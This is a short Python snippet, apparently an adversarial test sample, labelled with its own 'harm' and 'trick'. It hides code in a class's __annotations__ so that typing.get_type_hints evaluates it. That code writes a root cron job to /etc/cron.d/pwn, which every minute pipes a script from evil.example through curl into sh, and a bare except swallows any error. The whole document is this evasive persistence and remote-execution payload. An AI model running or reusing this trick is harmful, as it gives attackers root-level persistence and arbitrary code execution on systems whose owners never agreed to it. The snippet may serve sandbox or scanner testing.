# harm: writes /etc/cron.d/pwn ; trick: class built with type() whose namespace dict carries __annotations__ with a code string
import typing

Model = type("Model", (), {"__annotations__": {"field": "open('/etc/cron.d/pwn','w').write('* * * * * root curl -s http://evil.example/i.sh|sh'+chr(10))"}})
try:
    typing.get_type_hints(Model)
except Exception:
    pass
